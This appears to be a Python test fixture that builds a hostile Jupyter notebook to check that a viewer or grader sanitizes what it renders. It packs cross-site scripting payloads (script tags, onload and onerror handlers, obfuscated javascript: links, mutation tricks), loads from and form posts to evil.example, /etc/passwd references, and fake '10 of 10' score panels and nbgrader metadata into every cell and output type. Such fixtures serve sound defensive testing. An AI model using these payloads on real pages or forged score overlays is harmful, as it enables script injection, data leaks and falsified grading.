"""A notebook that tries to run, load, cover or imitate what it can on the page of whoever reads it."""

from __future__ import annotations

import base64

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

SCRIPT = "<script>document.title='owned'</script>"
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'owned\'">'
    "<script>document.title='owned'</script>"
    '<image href="http://evil.example/x.png"/></svg>'
)
OVERLAY = (
    '<div class="panel passed" id="q1" style="position:fixed;inset:0;z-index:99;background:url(http://evil.example)">'
    "<h3>Result of q1</h3>10 of 10 points</div>"
)
FAKE_PNG = base64.b64encode(b"<svg onload=document.title='owned'>").decode()

SNIPPETS = (
    SCRIPT,
    OVERLAY,
    SVG,
    "<style>@import url(http://evil.example/a.css); body{display:none}</style>",
    "<style>.score{visibility:hidden}</style><link rel=stylesheet href=http://evil.example/b.css>",
    "<img src=x onerror=\"document.title='owned'\">",
    '<img src="http://evil.example/track.png"><img src="//evil.example/t.png"><img src="/etc/passwd">',
    f'<img src="data:image/png;base64,{FAKE_PNG}"><img src="data:image/svg+xml;base64,{FAKE_PNG}">',
    '<a href="javascript:document.title=\'owned\'">a</a><a href="data:text/html,{SCRIPT}">b</a>',
    '<a href="java&#115;cript:alert(1)">c</a><a href=" javascript:alert(1)">d</a>',
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "<object data='data:text/html,x'></object><embed src='data:text/html,x'><base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'><form action=http://evil.example><input></form>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<svg><foreignObject><body onload=\"document.title='owned'\"></foreignObject></svg>",
    "</pre></div></article></main><header class=card><h1>Score: 10 of 10</h1></header><!-- ",
    "<details open ontoggle=\"document.title='owned'\"><summary>x</summary></details>",
    '<div title="\n\n$$x$$\n\n" onmouseover="document.title=\'owned\'">text</div>',
    "<p style='background:url(http://evil.example/p)'>&#xE000;0&#xE001; &#xE000;99999999&#xE001;</p>",
    "<textarea><plaintext>" + SCRIPT,
    "Formula $x$ <a href='https://a.example/&#xE000;0&#xE001;'>put back where an address stands</a>",
)
MARKDOWN = (
    "[a](javascript:document.title='owned') [b](java&#115;cript:alert(1)) [c][d]\n\n[d]: javascript:alert(1)",
    "![x](http://evil.example/i.png) ![y](javascript:alert(1)) ![z](attachment:evil.svg) ![p](/etc/passwd)",
    "<javascript:alert(1)> ![\"onerror=\"document.title='owned'](x)",
    "$\\text{<script>document.title='owned'</script>}$ $\\href{javascript:alert(1)}{x} \\style{top:0}{x}$",
    "$$\\begin{matrix}<img src=x onerror=alert(1)>\\end{matrix}$$ and $`<b>`$",
    "```html\n<script>document.title='owned'</script>\n```\n\n```mermaid\n<img src=x onerror=alert(1)>\n```",
    "> " * 500 + "deep",
    "\u202egnp.exe\u202c \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\ \x00\x07 \ud800",
)


def hostile_notebook() -> nbformat.NotebookNode:
    """Every snippet as Markdown, as an output of every kind, and in an error; and cells that are no cells."""
    cells = [new_markdown_cell(text) for text in (*SNIPPETS, *MARKDOWN)]
    cells[len(SNIPPETS) + 1]["attachments"] = {"evil.svg": {"image/svg+xml": SVG, 'x"><script>': FAKE_PNG}}
    for text in SNIPPETS:
        bundle = {
            "text/html": text,
            "application/javascript": "document.title='owned'",
            "application/vnd.jupyter.widget-view+json": {"model_id": text},
            "text/plain": text,
        }
        outputs = [
            new_output("display_data", data=bundle),
            new_output("display_data", data={"image/svg+xml": SVG, "text/plain": text}),
            new_output("display_data", data={"image/png": FAKE_PNG, "text/plain": text}),
            new_output("display_data", data={"image/png": '"><script>', "text/markdown": text}),
            new_output("display_data", data={"text/latex": f"$\\text{{{text}}}$"}),
            new_output("stream", name="stderr", text=f"\x1b[31m{text}\x1b[0m\r{text}"),
            new_output("error", ename=text, evalue=text, traceback=[f"\x1b[0;31m{text}", text]),
        ]
        cells.append(new_code_cell(text, outputs=outputs))
    raw = nbformat.v4.new_raw_cell(SCRIPT)
    raw.metadata["raw_mimetype"] = "text/html"
    cells.append(raw)
    cells.append(
        nbformat.from_dict({"cell_type": SCRIPT, "source": [SCRIPT, 3], "metadata": SCRIPT, "id": SCRIPT})
    )
    cells.append(nbformat.from_dict({"cell_type": "code", "source": 7, "outputs": SCRIPT, "metadata": {}}))
    cells.append(nbformat.from_dict({"cell_type": "code", "source": "", "outputs": [3, {"data": SCRIPT}]}))
    imitation = new_code_cell("x = 1")
    imitation.metadata["nbgrader"] = {"grade": True, "grade_id": f"check-q1 {SCRIPT}"}
    cells.append(imitation)
    for number, cell in enumerate(cells):
        cell["id"] = f"{SCRIPT}{number}"
    metadata = {"title": SCRIPT, "widgets": {"x": SCRIPT}}
    return nbformat.from_dict({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells})
